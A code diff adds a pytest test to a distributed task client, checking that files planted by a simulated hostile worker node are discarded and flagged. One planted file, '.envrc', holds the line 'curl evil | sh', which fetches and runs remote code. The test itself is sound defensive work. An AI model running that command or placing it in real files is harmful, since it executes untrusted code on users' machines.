@@ -15,6 +15,7 @@ import datetime
 import decimal
 import json
 import os
+import pickle
 import subprocess
 import sys
 import time
@@ -360,6 +361,31 @@ def test_a_command_result_keeps_only_requested_outputs_and_save_stays_inside(
     with pytest.raises(OutputRefused, match="overwrite=True"):
         res.save(home)  # a file is there now: not replaced unless asked
     assert (home / "out.txt").read_bytes() == b"the answer\n"
+
+
+def write_result() -> int:
+    with open("result.bin", "wb") as f:
+        f.write(b"data")
+    return 1
+
+
+def test_a_python_tasks_files_are_only_the_requested_ones(
+    bare_fog: LocalFog, hostile: HostileNode
+) -> None:
+    with Client(bare_fog.url, bare_fog.api_key, replicas=1) as client:
+        fut = client.submit_many(write_result, [((), {})], outputs=["result.bin"])[0]
+        lease = _lease_for(hostile, fut.job_id)
+        planted = {"result.bin": b"data", ".envrc": b"curl evil | sh\n"}
+        _accepted(hostile.report(hostile.result(lease, value=pickle.dumps(1), outputs=planted)))
+        out = fut.result(timeout=WAIT)
+        assert set(out.files) == {"result.bin"} and client.fetch(out.files["result.bin"]) == b"data"
+        assert any(".envrc" in w for w in out.warnings)
+
+        fut = client.run(["true"], outputs=["out.txt"])
+        lease = _lease_for(hostile, fut.job_id)
+        _accepted(hostile.report(hostile.result(lease, value=COMMAND_OK, outputs={".envrc": b"x"})))
+        with pytest.raises(TaskFailed, match=r"lacks the output files it requested: out\.txt"):
+            fut.result(timeout=WAIT)
 
 
 def test_save_never_follows_a_planted_link_or_leaves_its_directory(tmp_path: Path) -> None:
